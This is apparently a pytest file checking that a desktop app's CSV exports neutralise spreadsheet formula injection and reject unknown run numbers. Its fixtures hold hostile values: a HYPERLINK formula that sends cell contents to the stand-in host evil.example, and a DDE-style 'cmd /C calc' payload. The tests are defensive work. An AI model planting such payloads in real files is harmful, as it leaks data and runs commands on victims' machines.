"""R15's CSV exports are opened in spreadsheet programs (CLI.md: the byte-order mark is there for them): no cell from
outside data may run as a formula (CSV injection), and a mistyped run number is an error, not an empty audit trail.
Found by an adversarial review of the exports."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from test_store_export import _decision

from desktop_app.cli import main
from desktop_app.domain.checklist import Channel, Checklist, ChecklistLine, Exclusion, SendStatus
from desktop_app.domain.email import try_normalise_email
from desktop_app.domain.model import RunMode, Trigger
from desktop_app.store import DecisionStatus, Store
from desktop_app.store.workbook import write_csv_file

UTC = timezone.utc
T0 = datetime(2026, 7, 4, 5, 6, 7, tzinfo=UTC)
# A valid address (one @, a dotted domain, no spaces) that Excel reads as a formula when the CSV is opened.
HOSTILE = '=hyperlink("https://evil.example/?"&a1,"open")@example.se'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(tmp_path):
    s = Store.open(tmp_path / "store", clock=lambda: T0)
    yield s
    s.close()


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_audit_csv_never_hands_excel_a_formula_from_a_contact_address(store, tmp_path):
    """CLI.md: the CSV carries a byte-order mark *so spreadsheet programs* open it. A contact's address is outside
    data (anyone can sign up on a web form); a cell starting with = + - @ is run by Excel as a formula (CSV
    injection). The workbook already keeps such text as text; the CSV must not hand it over raw."""
    assert try_normalise_email(HOSTILE) == HOSTILE  # the app syncs this contact like any other
    run = store.start_run(Trigger.SCHEDULED, RunMode.FULL, False)
    [i] = store.record_decisions(run, [_decision(HOSTILE)], DecisionStatus.PLANNED)
    store.mark_applied(i, T0 + timedelta(hours=2), message="@SUM(1+1)*cmd|' /C calc'!A0")
    path = tmp_path / "audit.csv"
    write_csv_file(path, store.export_csv)
    dangerous = [c for c in _cells(path) if c.startswith(FORMULA_START)]
    assert dangerous == []


def test_sends_csv_never_hands_excel_a_formula_from_a_recipient_line_as_entered(store, tmp_path):
    """The 'as entered' column holds whatever line was pasted into a send's recipient list (also the invalid ones)."""
    run = store.start_run(Trigger.SEND, RunMode.INCREMENTAL, False)
    given = '=HYPERLINK("https://evil.example/","Click")'
    checklist = Checklist(
        Channel.EMAIL,
        42,
        run,
        T0,
        (ChecklistLine(given, None, False, Exclusion.INVALID_ADDRESS, "Not an e-mail address."),),
    )
    store.create_send(Channel.EMAIL, 42, "entered", [given], status=SendStatus.CHECKED, checklist=checklist)
    path = tmp_path / "sends.csv"
    write_csv_file(path, store.export_sends_csv)
    cells = _cells(path)
    assert any("HYPERLINK" in c.upper() for c in cells)  # the line is in the export
    dangerous = [c for c in cells if c.startswith(FORMULA_START)]
    assert dangerous == []


def test_exporting_a_run_that_does_not_exist_is_an_error_not_an_empty_audit_trail(tmp_path):
    """`history --run 99` says "There is no run 99" (exit 2); `history --run 99 --csv FILE` writes an empty audit
    trail and exits 0 - an admin who mistyped the run number hands the DPO a file with no rows and no warning."""
    data = tmp_path / "data"
    with Store.open(data) as store:
        store.start_run(Trigger.MANUAL, RunMode.FULL, False)
    out, err = io.StringIO(), io.StringIO()
    assert main(["history", "--run", "99"], out, err) == 2
    target = tmp_path / "run99.csv"
    out, err = io.StringIO(), io.StringIO()
    code = main(["history", "--run", "99", "--csv", str(target)], out, err)
    assert code == 2, err.getvalue()
    assert not target.exists()


def test_only_text_a_spreadsheet_would_run_gets_the_apostrophe():
    from desktop_app.store.csv_cells import as_text_cell

    assert [as_text_cell(v) for v in ("=1+1", "+46 70", "-x@y.se", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1",
        "'+46 70",
        "'-x@y.se",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    untouched = ("anna@example.se", "2026-07-04T05:06:07+00:00", "R13", "withdrawn", "", 42, None)
    assert [as_text_cell(v) for v in untouched] == list(untouched)
